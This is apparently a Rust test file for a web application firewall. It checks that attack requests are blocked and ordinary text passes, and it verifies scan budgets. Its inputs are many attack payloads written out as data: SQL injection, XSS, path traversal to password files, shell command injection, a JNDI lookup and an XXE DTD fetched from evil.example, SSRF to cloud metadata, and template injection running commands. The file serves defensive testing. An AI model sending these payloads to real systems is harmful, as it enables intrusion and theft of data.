                .chain([("hostile", &hostile)])
            {
                for (id, request) in requests {
                    let verdict = decision(filtered.inspect(request));
                    assert_eq!(
                        verdict,
                        decision(unfiltered.inspect(request)),
                        "{name} {id} at paranoia {paranoia}"
                    );
                    compared += 1;
                    blocked += usize::from(verdict.action == Action::Block);
                }
            }
        }
        assert!(
            compared > 8000 && blocked > 3000,
            "{compared} compared, {blocked} blocked"
        );
    }

    /// Fragments values are made of for the property test below: every rule's literal
    /// factors, separators and openers the anchored alternatives look for, and filler.
    fn fragments() -> Vec<String> {
        let mut all: Vec<String> = (0..RULES.len())
            .flat_map(|i| Piece::of(i, true).expect("pattern"))
            .flat_map(|p| p.needs)
            .flat_map(|n| n.factors.unwrap_or_default())
            .map(|f| String::from_utf8_lossy(&f).into_owned())
            .collect();
        all.extend(
            [
                " ", "  ", ";", "&", "|", "`", "(", ")", "'", "\"", "<", ">", "/", "\\", ".", "..",
                "%2e", "%2f", "\\x2f", "&#47;", "\n", "\t", "=", "-", "*", "$", "{", "}", "a",
                "etc", "1",
            ]
            .map(String::from),
        );
        all.sort();
        all.dedup();
        all
    }

    static FRAGMENTS: std::sync::LazyLock<Vec<String>> = std::sync::LazyLock::new(fragments);
    /// Paranoia 4 (every rule), no budgets: with gates and anchored walks, and without either.
    static GATED: std::sync::LazyLock<Waf> = std::sync::LazyLock::new(|| {
        Waf::new(WafConfig {
            paranoia: 4,
            caps: Caps {
                scan_per_byte: usize::MAX,
                states_per_byte: usize::MAX,
                ..Caps::default()
            },
            ..WafConfig::default()
        })
    });
    static UNGATED: std::sync::LazyLock<Waf> = std::sync::LazyLock::new(|| Waf {
        prefilter: false,
        ..Waf::build(GATED.config.clone(), false)
    });

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig {
            cases: 512,
            ..proptest::prelude::ProptestConfig::default()
        })]

        /// Values made of rule factors, separators and filler, in any order (so that a value
        /// may begin with what an anchored alternative needs, or lack the byte that goes with
        /// a factor): the gates, the anchored walks and their first bytes change no verdict.
        #[test]
        fn gated_and_anchored_search_decides_as_searching_everything(
            picks in proptest::collection::vec(0usize..10_000, 1..12)
        ) {
            let value: String = picks
                .iter()
                .map(|i| FRAGMENTS[i % FRAGMENTS.len()].as_str())
                .collect();
            let request = request(
                "POST",
                "/api/x",
                Some("application/json"),
                serde_json::json!({ "v": value }).to_string().into_bytes(),
            );
            proptest::prop_assert_eq!(
                decision(GATED.inspect(&request)),
                decision(UNGATED.inspect(&request)),
                "{:?}",
                value
            );
        }
    }

    #[test]
    fn ordinary_requests_need_a_fraction_of_the_scan_budget() {
        // The budgets stop only requests built to be costly: every request of the ordinary
        // and platform corpora (and every attack) stays well inside them.
        let waf = Waf::new(WafConfig::default());
        let caps = Caps::default();
        let mut checked = 0;
        for (name, requests) in all_corpora() {
            for (id, request) in &requests {
                let verdict = waf.inspect(request);
                let parts = request::Parts {
                    uri: true,
                    headers: true,
                    body: true,
                };
                let budget = caps.scan_per_byte * parts.bytes(request) + caps.scan_floor;
                assert!(
                    verdict.scanned_bytes * 2 <= budget,
                    "{name} {id}: {} of a budget of {budget} bytes",
                    verdict.scanned_bytes
                );
                // The automata start cold, as after a deployment: the first requests build
                // the states the rest find built.
                let states = caps.states_per_byte * parts.bytes(request) + caps.states_floor;
                assert!(
                    verdict.state_bytes * 2 <= states,
                    "{name} {id}: {} bytes of states, of {states}",
                    verdict.state_bytes
                );
                checked += 1;
            }
        }
        assert!(checked > 4000, "{checked} requests");
    }

    #[test]
    fn many_short_ordinary_values_fit_the_budget() {
        // Bodies of many tiny values (tags, checkboxes, a list of words) pass well inside the
        // budget: a tiny value's fixed costs are bounded by the argument cap, not the budget.
        let waf = Waf::new(WafConfig::default());
        let words = [
            "red", "Müller", "on", "yes", "de", "EU", "a.b", "x-1", "50%", "ok!", "(n/a)", "€5",
        ];
        let tags: Vec<String> = (0..1000)
            .map(|i| words[i % words.len()].to_string())
            .collect();
        let json = serde_json::json!({ "tags": tags }).to_string();
        let form: Vec<String> = (0..500).map(|i| format!("p{i}=on")).collect();
        let checks = [
            hostile::atom_body("", "application/json", 0),
            request(
                "POST",
                "/api/items",
                Some("application/json"),
                json.into_bytes(),
            ),
            request(
                "POST",
                "/portal/settings",
                Some("application/x-www-form-urlencoded"),
                form.join("&").into_bytes(),
            ),
        ];
        for request in &checks {
            let verdict = waf.inspect(request);
            assert_eq!(verdict.action, Action::Allow, "{:?}", verdict.rules);
            let caps = Caps::default();
            let budget = caps.scan_per_byte * request.body.len() + caps.scan_floor;
            assert!(
                verdict.scanned_bytes * 2 <= budget,
                "{} of {budget}",
                verdict.scanned_bytes
            );
        }
    }

    #[test]
    fn a_request_built_to_search_every_group_is_stopped_at_its_budget() {
        // Every view different and every gate open: markup, escapes, comments, quotes and
        // keywords that never complete a rule, repeated.
        let unit = "<a b=\"\\u{/**/ $x %u a\\b select_ or_ ";
        let body = unit.repeat(256 * 1024 / unit.len());
        let request = hostile::atom_body(&body, "text/plain", body.len());
        let unlimited = Waf::new(WafConfig {
            caps: Caps {
                scan_per_byte: usize::MAX,
                ..Caps::default()
            },
            ..WafConfig::default()
        });
        let free = unlimited.inspect(&request);
        assert!(
            free.scanned_bytes > 8 * body.len(),
            "the input is costly: {} bytes searched for {}",
            free.scanned_bytes,
            body.len()
        );
        assert_eq!(free.action, Action::Allow, "{:?}", free.rules);
        let bounded = Waf::new(WafConfig::default()).inspect(&request);
        let caps = Caps::default();
        assert!(bounded.scanned_bytes <= caps.scan_per_byte * body.len() + caps.scan_floor);
        assert_eq!(bounded.action, Action::Block);
        assert_eq!(bounded.rules, vec![LIMITS_RULE]);
    }

    #[test]
    fn remembered_header_values_decide_as_they_did_the_first_time() {
        let waf = Waf::new(WafConfig::default());
        let corpora = all_corpora();
        let first: Vec<Verdict> = corpora
            .iter()
            .flat_map(|(_, r)| r)
            .map(|(_, r)| decision(waf.inspect(r)))
            .collect();
        let remembered = waf.header_memo.lock().map(|m| m.len()).unwrap_or(0);
        assert!(remembered > 0, "the memo was used");
        let again: Vec<Verdict> = corpora
            .iter()
            .flat_map(|(_, r)| r)
            .map(|(_, r)| decision(waf.inspect(r)))
            .collect();
        assert!(first == again, "a remembered value changed a verdict");
        // And against a WAF that remembers nothing, request by request.
        let forgetful = Waf::new(WafConfig::default());
        for ((_, request), verdict) in corpora.iter().flat_map(|(_, r)| r).zip(&first) {
            if let Ok(mut memo) = forgetful.header_memo.lock() {
                memo.clear();
            }
            assert_eq!(&decision(forgetful.inspect(request)), verdict);
        }
    }

    #[test]
    fn ordinary_values_skip_most_pattern_groups() {
        // Plain prose opens at most one group that searches the whole text (` and ` is what
        // an SQL boolean needs), besides the walks anchored at its start, which end within a
        // few bytes. Before needs were checked alternative by alternative, a `u` opened the
        // SQL group of `\bunion\b…`, and two-letter command names such as `ps` and `at`
        // opened the shell groups: five or six groups.
        let waf = Waf::new(WafConfig::default());
        for text in [
            "the outage started at nine and we restored service within two hours",
            "the quick brown fox jumps over the lazy dog. ",
            "wir haben am dienstag eine neue rechnung erhalten und bitten um prüfung",
        ] {
            let views = views_of(text);
            let mut opened_groups = Vec::new();
            for view in &waf.views {
                let text = views.text(view_index(view.view)).as_bytes();
                let present = ByteSet::of(text);
                let opened = waf.factors.find(text);
                opened_groups.extend(
                    view.groups
                        .iter()
                        .filter(|g| !g.anchored && g.gate.opens(&present, &opened, g.slot))
                        .map(|g| g.rules.iter().map(|r| RULES[*r].id).collect::<Vec<_>>()),
                );
            }
            assert!(
                opened_groups.len() <= 1,
                "{text:?} opens the groups of {opened_groups:?}"
            );
        }
    }

    #[test]
    fn a_body_of_many_ordinary_texts_fits_the_scan_budget() {
        // A thousand texts of the ordinary corpus (the field cap), odd as they are, in one
        // JSON body of about 50 KB: the budget does not stop it (it did before needs were
        // checked alternative by alternative: 9.3 bytes searched per byte of 8).
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
        let text = std::fs::read_to_string(root.join("corpora/ordinary.jsonl")).expect("corpus");
        let values: Vec<String> = corpus::read_all(&text)
            .expect("corpus lines")
            .iter()
            .flat_map(|(_, r)| request::targets(r).0)
            .map(|(_, _, value)| value.to_string())
            .filter(|value| value.len() > 8)
            .collect();
        let items: Vec<&String> = values.iter().cycle().take(1000).collect();
        let body = serde_json::json!({ "items": items })
            .to_string()
            .into_bytes();
        let request = request("POST", "/api/items", Some("application/json"), body);
        // Fresh automata need ~800 KB of states for it, more than its own state budget: the
        // WAF's warm-up allowance pays the rest, once. Without one it would be stopped.
        let verdict = Waf::new(WafConfig::default()).inspect(&request);
        assert!(
            !verdict.rules.contains(&LIMITS_RULE),
            "{:?}: {} bytes searched, {} of states",
            verdict.rules,
            verdict.scanned_bytes,
            verdict.state_bytes
        );
        let cold = Waf::new(WafConfig {
            caps: Caps {
                warm_up_states: 0,
                ..Caps::default()
            },
            ..WafConfig::default()
        });
        assert!(cold.inspect(&request).rules.contains(&LIMITS_RULE));
        assert!(!cold.inspect(&request).rules.contains(&LIMITS_RULE));
        // Spent, the allowance refills with the requests that follow.
        let waf = Waf::new(WafConfig::default());
        let full = Caps::default().warm_up_states;
        waf.warm_up.store(0, Ordering::Relaxed);
        let small = hostile::atom_body("x", "application/json", 16);
        for _ in 0..WARM_UP_REFILLS / 2 {
            waf.inspect(&small);
        }
        assert_eq!(waf.warm_up.load(Ordering::Relaxed), full / 2);
        for _ in 0..WARM_UP_REFILLS {
            waf.inspect(&small);
        }
        assert_eq!(waf.warm_up.load(Ordering::Relaxed), full);
        let caps = Caps::default();
        let budget = caps.scan_per_byte * request.body.len() + caps.scan_floor;
        assert!(
            verdict.scanned_bytes * 4 <= budget * 3,
            "{} of {budget} ({} B)",
            verdict.scanned_bytes,
            request.body.len()
        );
    }

    /// A request to the test host, with a content type when given.
    fn request(method: &str, uri: &str, ct: Option<&str>, body: Vec<u8>) -> WafRequest {
        let mut headers = vec![("Host".to_string(), "trust.example".to_string())];
        if let Some(ct) = ct {
            headers.push(("Content-Type".to_string(), ct.to_string()));
        }
        WafRequest::new(method, uri, headers, body)
    }

    fn check(waf: &Waf, method: &str, uri: &str, ct: Option<&str>, body: &str) -> Verdict {
        waf.inspect(&request(method, uri, ct, body.as_bytes().to_vec()))
    }

    #[test]
    fn obvious_attacks_are_blocked_and_plain_requests_pass() {
        let waf = Waf::new(WafConfig::default());
        for (uri, body) in [
            ("/api/x?id=1%27%20OR%20%271%27%3D%271", ""),
            ("/api/x?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
            ("/api/x?file=../../../../etc/passwd", ""),
            ("/api/x?cmd=;cat%20/etc/passwd", ""),
            ("/api/x", "a=${jndi:ldap://evil.example/x}"),
            ("/api/x?u=http://169.254.169.254/latest/meta-data/", ""),
        ] {
            let method = if body.is_empty() { "GET" } else { "POST" };
            let ct = (!body.is_empty()).then_some("application/x-www-form-urlencoded");
            let v = check(&waf, method, uri, ct, body);
            assert_eq!(v.action, Action::Block, "{uri} {body}: {v:?}");
        }
        for uri in [
            "/",
            "/api/incidents?status=open",
            "/security/report?lang=de",
            "/healthz",
        ] {
            let v = check(&waf, "GET", uri, None, "");
            assert_eq!(v.action, Action::Allow, "{uri}: {v:?}");
        }
    }

    #[test]
    fn report_free_text_may_describe_attacks_but_the_rest_is_inspected() {
        let waf = Waf::new(WafConfig::default());
        let report = r#"{"description":"the filter takes ' OR 1=1 -- and <script>alert(1)</script>","affected_parties":"ACME","personal_data_kind":"emails","scope":"all","impact_assessment":"high"}"#;
        let v = check(
            &waf,
            "POST",
            "/security/reports",
            Some("application/json"),
            report,
        );
        assert_eq!(v.action, Action::Allow, "{v:?}");
        let smuggled = r#"{"description":"ok","affected_parties":"x","personal_data_kind":"x","scope":"x","impact_assessment":"x","language":"<script>alert(1)</script>"}"#;
        let v = check(
            &waf,
            "POST",
            "/security/reports",
            Some("application/json"),
            smuggled,
        );
        assert_eq!(v.action, Action::Block, "{v:?}");
        // The same free text on another route is an attack.
        let v = check(
            &waf,
            "POST",
            "/api/incidents",
            Some("application/json"),
            report,
        );
        assert_eq!(v.action, Action::Block, "{v:?}");
    }

    #[test]
    fn the_stripe_webhook_body_passes_untouched() {
        let waf = Waf::new(WafConfig::default());
        let body =
            r#"{"object":"event","data":{"object":{"description":"<script>x</script> ' or 1=1"}}}"#;
        let v = check(
            &waf,
            "POST",
            "/stripe/webhook",
            Some("application/json"),
            body,
        );
        assert_eq!(v.action, Action::Allow, "{v:?}");
    }

    #[test]
    fn protocol_violations() {
        let waf = Waf::new(WafConfig::default());
        let raw = b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\nhello";
        assert_eq!(
            waf.inspect(&WafRequest::from_raw(raw)).action,
            Action::Block
        );
        let raw = b"TRACK / HTTP/1.1\r\nHost: a\r\n\r\n";
        assert_eq!(
            waf.inspect(&WafRequest::from_raw(raw)).action,
            Action::Block
        );
        let raw = b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 1x\r\n\r\n";
        assert_eq!(
            waf.inspect(&WafRequest::from_raw(raw)).action,
            Action::Block
        );
        let raw = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n";
        assert_eq!(
            waf.inspect(&WafRequest::from_raw(raw)).action,
            Action::Allow
        );
    }

    #[test]
    fn paranoia_adds_broader_rules() {
        let low = Waf::new(WafConfig::default());
        let high = Waf::new(WafConfig {
            paranoia: 2,
            ..WafConfig::default()
        });
        let v1 = check(&low, "GET", "/x?q=%3Cb%3Ebold%3C/b%3E", None, "");
        let v2 = check(&high, "GET", "/x?q=%3Cb%3Ebold%3C/b%3E", None, "");
        assert_eq!((v1.action, v2.action), (Action::Allow, Action::Block));
    }

    fn query(waf: &Waf, value: &str) -> Verdict {
        let mut encoded = String::new();
        for b in value.bytes() {
            if b.is_ascii_alphanumeric() {
                encoded.push(char::from(b));
            } else {
                encoded.push_str(&format!("%{b:02X}"));
            }
        }
        check(waf, "GET", &format!("/api/x?q={encoded}"), None, "")
    }

    #[test]
    fn traversal_to_os_files_is_blocked_whatever_the_encoding_or_separator() {
        let waf = Waf::new(WafConfig::default());
        for uri in [
            "/api/x?f=%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
            "/api/x?f=%e0%80%ae%e0%80%ae/etc/issue",
            "/api/x?f=..%f0%80%80%afboot.ini",
            "/api/x?f=%uff0e%uff0e%u2215windows%u2215win.ini",
            "/api/x?f=%uff0e%uff0e%u2216boot.ini",
            "/api/x?f=%25252e%25252e%25252fetc%25252fpasswd",
            "/api/x?f=..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
            "/api/x?f=..\\../windows/system32/drivers/etc/hosts",
            "/api/x?f=%uF025%uF032e%uF025%uF032e%uF025%uF032fetc/passwd",
            "/api/x?f=.%2e/.%2e/etc/passwd",
            "/api/x?f=%c0%2e%c0%2e%c0%afetc%c0%afpasswd",
            "/api/x?f=....//....//etc/passwd",
            "/api/x?f=c:%5cboot.ini",
            "/static/..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
        ] {
            let v = check(&waf, "GET", uri, None, "");
            assert_eq!(v.action, Action::Block, "{uri}: {v:?}");
        }
    }

    #[test]
    fn the_new_attack_classes_are_blocked() {
        let waf = Waf::new(WafConfig::default());
        for (class, value) in [
            (Class::Crlf, "x\r\nSet-Cookie: session=evil"),
            (Class::Crlf, "/\r\nLocation: https://evil.example"),
            (Class::Crlf, "a\r\n\r\nHTTP/1.1 200 OK"),
            (Class::Ldap, "*)(uid=*))(|(uid=*"),
            (Class::Ldap, "admin)(&)"),
            (Class::Ldap, "*)(|(objectclass=*)"),
            (Class::Ldap, "admin*)((|userpassword=*)"),
            (Class::Mail, "x\r\nRCPT TO:<attacker@evil.example>"),
            (Class::Mail, "INBOX\r\nA002 LOGOUT"),
            (Class::Mail, "me@example.com\nBcc: all@example.com"),
            (Class::Mail, "x\r\nDATA\r\n"),
            (Class::Ssi, "<!--#exec cmd=\"ls\" -->"),
            (Class::Ssi, "<!--#include virtual=\"/etc/passwd\" -->"),
            (Class::Ssi, "<!--#echo var=\"DOCUMENT_ROOT\" -->"),
            (Class::Template, "{{7*7}}"),
            (Class::Template, "{{config.items()}}"),
            (Class::Template, "{{''.__class__.__mro__[1]}}"),
            (Class::Template, "{% import os %}"),
            (
                Class::Template,
                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
            ),
            (Class::Template, "${7*7}"),
            (Class::Template, "#set($x = 7*7)"),
            (
                Class::Template,
                "*{T(java.lang.Runtime).getRuntime().exec('id')}",
            ),
            (Class::Template, "__${T(java.lang.Runtime)}__::.x"),
            (Class::Template, "<%= 7*7 %>"),
            (Class::Template, "{$smarty.version}"),
            (Class::Rce, "cat${IFS}/etc/passwd"),
            (Class::Rce, "x;/???/??t /???/p??s??"),
            (Class::Rce, "$(whoami)"),
            (Class::Rce, "`id`"),
            (Class::Rce, "{cat,/etc/passwd}"),
        ] {
            let v = query(&waf, value);
            assert_eq!(v.action, Action::Block, "{value:?}: {v:?}");
            if class != Class::Rce {
                assert!(v.classes.contains(&class), "{value:?} as {class:?}: {v:?}");
            }
        }
    }

    /// One case for each rule and normalisation added for the evaluation's misses, each with
    /// the rule that must decide it.
    #[test]
    fn a_header_line_counts_where_a_value_cannot_have_lines() {
        let waf = Waf::new(WafConfig::default());
        let json = |text: &str| {
            let body = serde_json::json!({ "name": text }).to_string();
            check(&waf, "POST", "/api/items", Some("application/json"), &body)
        };
        // Any header name after a line break in a query string, or after an encoded break
        // anywhere.
        for value in ["en\r\nHeader-Test: BLATRUC", "x\nFoo-Bar:1"] {
            assert!(
                query(&waf, value).rules.contains(&protocol_ids::SPLITTING),
                "{value:?}"
            );
        }
        let encoded = json("crlf%0D%0AHeader-Test:BLATRUC");
        assert!(encoded.rules.contains(&protocol_ids::SPLITTING));
        // A text with real lines may have a line that starts like a header.
        let text = json("Hallo,\nBetreff: Export\nGruß, Jana");
        assert_eq!(text.action, Action::Allow, "{:?}", text.rules);
    }

    #[test]
    fn the_forms_the_evaluation_found_missing_are_blocked_by_their_rules() {
        let waf = Waf::new(WafConfig::default());
        for (rule, value) in [
            (942520, "1' ORDER BY 3--+"),
            (942520, " HAVING 1=1-- "),
            (942521, "'^'"),
            (942521, "'=' 'or'"),
            (942522, "1 AND 0x61646d696e=0x61646d696e"),
            (942522, "1 AND @@version LIKE '%8.0%'"),
            (942522, "') or ('x')=('x"),
            (942523, "admin'/*"),
            (934130, "http://127.1/"),
            (934130, "http://0x7f000001/"),
            (934130, "http://evil.example@127.0.0.1/"),
            (934130, "http://customer.127.0.0.1.nip.io/"),
            (
                934130,
                "http://\u{2460}\u{2461}\u{2466}.\u{24ea}.\u{24ea}.\u{2460}/",
            ),
            (934120, "jar:http://evil.example/x.jar!/"),
            (934220, "{{.}}"),
            (934220, "{{7*'7'}}"),
            (934220, "<%= Dir.entries('/') %>"),
            (934220, "@(1+2)"),
            (936310, "<esi:include src=\"http://evil.example/\"/>"),
            (932271, "& ver"),
            (932271, ";sleep 10"),
            (932230, "x\nid"),
            (932230, ";(id)"),
            (932250, ";$0 -c id"),
            (934140, "' && this.password.match(/.*/)//"),
            (934140, "', $or: [ {}, { 'a':'a"),
            (
                944260,
                "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>",
            ),
            (933170, "O:+4:\"Test\":0:{}"),
            (protocol_ids::SPLITTING, "de\u{560a}\u{560d}Set-Cookie: x=1"),
            (protocol_ids::SPLITTING, "\\r\\nSet-Cookie: x=y"),
            (protocol_ids::SPLITTING, "de\nX-Injected: 1"),
            (930121, "..%uF025..%uF025..%uF025etc/passwd"),
            (941200, "<:vmlframe src="),
            (933160, "(\"system  \")(\"whoami\")"),
            (942320, "unistr(password)::int"),
            (942320, "password::int"),
            (942320, "function(foo)::double precision"),
            (942360, "` AS `edit_user_id` from"),
            (942360, "1234 AS \"foobar\" FROM t"),
            (932175, "alias +g+ a=b"),
            (932175, "alias -gmr a=b"),
            (932230, ";cat flag.txt"),
            (932230, "; ps aux"),
            (932230, "& dir c:\\"),
            (932230, "cd /;cd etc;column passwd"),
            (932230, "| dir C:\\Documents and Settings\\*"),
            (932230, "&& sysinfo"),
            (942101, "'; return true; var x='"),
            (942101, "admin'; drop table users--"),
            (942360, "select @@version"),
            // Held-out lists (SecLists, PayloadsAllTheThings, fuzzdb), read and not copied into
            // the corpora: what they found missed.
            (942524, "x' OR full_name LIKE '%Bob%"),
            (942524, "x' AND members.email IS NULL; --"),
            (942524, "' or 1 --'"),
            (942524, " or 1 --"),
            (942524, ") or (a=a"),
            (942524, " or 'whatever' in ('whatever')"),
            (942524, "1'||'asd'||'"),
            (942524, "1;SELECT *"),
            (932241, "CMD=$'id';$CMD"),
            (932241, "&&CMD=$\"id\";$CMD"),
            (930120, "/etc/vsftpd/vsftpd.conf"),
            (930120, "/etc/wu-ftpd/ftpusers"),
            (930120, "/.bashrc"),
            (930120, "c:\\apache\\logs\\access.log"),
            (934140, "0;return true"),
            (protocol_ids::SPLITTING, "\r\nHeader-Test:BLATRUC"),
            // An unclosed comment hides nothing after it.
            (942100, "<!--' or 1=1--"),
            (941110, "<!--<script>alert(1)</script>"),
            (941110, "/*<script>alert(1)</script>"),
            (934200, "/*{{7*7}}"),
            // Nor does a closed one, for the other languages (the stripped view's rules read the
            // decoded text too).
            (941110, "/*<script>alert(1)</script>*/"),
            (942100, "<!--' or 1=1 -->"),
            (941160, "<![CDATA[<img src=x>"),
            (941160, "<xml id=i src=\"http://evil.example/x.xml\">"),
            (
                942360,
                "BACKUP database master to disk='\\\\10.0.0.1\\share\\db.dat'",
            ),
            (
                944150,
                "&#x24;&#0000000000000000000000000123;jndi:ldap://evil.example/w}",
            ),
        ] {
            let v = query(&waf, value);
            assert_eq!(v.action, Action::Block, "{value:?}: {v:?}");
            assert!(v.rules.contains(&rule), "{value:?} not by {rule}: {v:?}");
        }
    }

    #[test]
    fn uploads_named_like_server_configuration_are_blocked() {
        let waf = Waf::new(WafConfig::default());
        let named = |name: &str| {
            waf.inspect(&WafRequest::new(
                "GET",
                "/get",
                vec![
                    ("Host".to_string(), "trust.example".to_string()),
                    ("X-Filename".to_string(), name.to_string()),
                ],
                Vec::new(),
            ))
        };
        for name in [
            "wp-config_php.txt",
            "config.yml ",
            ".htaccess",
            "uploads/.env",
        ] {
            let v = named(name);
            assert!(v.rules.contains(&932180), "{name:?}: {v:?}");
        }
        // Any name that starts with `wp-config` is one (its backups and copies are what probes
        // ask for); a name merely containing "config" is not.
        for name in [
            "invoice-2026-10.pdf",
            "config-notes.txt",
            "my wp config.pdf ",
        ] {
            assert_eq!(named(name).action, Action::Allow, "{name:?}");
        }
    }

    #[test]
    fn ordinary_text_that_only_looks_odd_passes() {
        let waf = Waf::new(WafConfig::default());
        for value in [
            "bash is my favourite shell",
            "curl up with a good book",
            "ls ist die Abkürzung für list",
            "nc steht für North Carolina",
            "zsh vs bash: which one is better?",
            "JavaScript: The Good Parts",
            "javascript: eine Einführung",
            "O'Reilly Media, it's 5' 10\"",
            "Select the best option and update your profile",
            "Drop us a line (we answer within a day)",
            "whoami – Kundennummer vergessen",
            "the document.cookie banner is annoying",
            "window.open does not work in the app",
            "please find document.pdf attached",
            "Curl & Locke Friseure",
            "Windows 11/10 and macOS",
            "see https://example.com/search?q=a&b=c",
            "Mit freundlichen Grüßen\nJana Müller\nTeam Lead",
            "{{name}} is a placeholder in our mail template",
            // False positives the evaluation found: a wrapper word before a command in prose,
            // Markdown code spans, a template placeholder, trigonometry.
            "sudo make me a sandwich (xkcd 149)",
            "`npm install` fails with EACCES",
            "${amount} appears instead of the amount",
            "sqrt(16) = 4",
            "Please check the logs\nand list the affected users",
            // Near the forms added from the CRS regression cases: an alias in prose, a role
            // "as admin from home", Markdown code spans side by side, language type names.
            "alias names: Jana, J. Müller",
            "she works as admin from home",
            "rename `old` as `new` from the next release",
            "Math::BigInt overflow in the Perl export",
            "Nokogiri::XML::Text in the Ruby client",
            // A command name after a semicolon or line break, a bracket closed before a
            // semicolon, a German word that ends like an SQL function.
            "Ihre kleine Schwester ist französisches Esskulturgut; man gönnt sie sich.",
            "see below; more info soon",
            "Hallo Team,\nman sieht den Fehler seit Montag",
            "Meeting (Raum 3); bring laptop",
            "Der Ort hieß früher Haßelt (1599)",
        ] {
            let v = query(&waf, value);
            assert_eq!(v.action, Action::Allow, "{value:?}: {v:?}");
        }
    }

    #[test]
    fn report_only_rules_and_routes_log_instead_of_blocking() {
        let attack = "/api/x?q=%7B%7B7*7%7D%7D";
        let blocking = Waf::new(WafConfig::default());
        let v = check(&blocking, "GET", attack, None, "");
        assert_eq!(v.action, Action::Block);
        let rule = v.rules[0];

        let by_rule = Waf::new(WafConfig {
            report_only: ReportOnly::parse(&rule.to_string()).expect("a rule id"),
            ..WafConfig::default()
        });
        let v = check(&by_rule, "GET", attack, None, "");
        assert_eq!((v.action, v.score), (Action::Log, 0), "{v:?}");
        assert_eq!(v.logged_rules, vec![rule]);

        let by_route = Waf::new(WafConfig {
            report_only: ReportOnly::parse("GET /api/x*").expect("a route"),
            ..WafConfig::default()
        });
        let v = check(&by_route, "GET", attack, None, "");
        assert_eq!(v.action, Action::Log, "{v:?}");
        // Other routes still block.
        let v = check(&by_route, "GET", "/api/y?q=%7B%7B7*7%7D%7D", None, "");
        assert_eq!(v.action, Action::Block, "{v:?}");

        let err = ReportOnly::parse("999999, POST api/x, 942100").expect_err("two bad entries");
        assert!(err.contains("999999") && err.contains("api/x"), "{err}");
    }

    #[test]
    fn bodies_over_the_limit_are_not_read() {
        let waf = Waf::new(WafConfig::default());
        let body = format!("{{\"a\":\"{}\"}}", "x".repeat(2 * 1024 * 1024));
        let v = check(&waf, "POST", "/api/x", Some("application/json"), &body);
        assert_eq!(v.action, Action::Block);
        assert_eq!(
            v.rules,
            vec![LIMITS_RULE],
            "only the limit, nothing inspected"
        );
    }
}
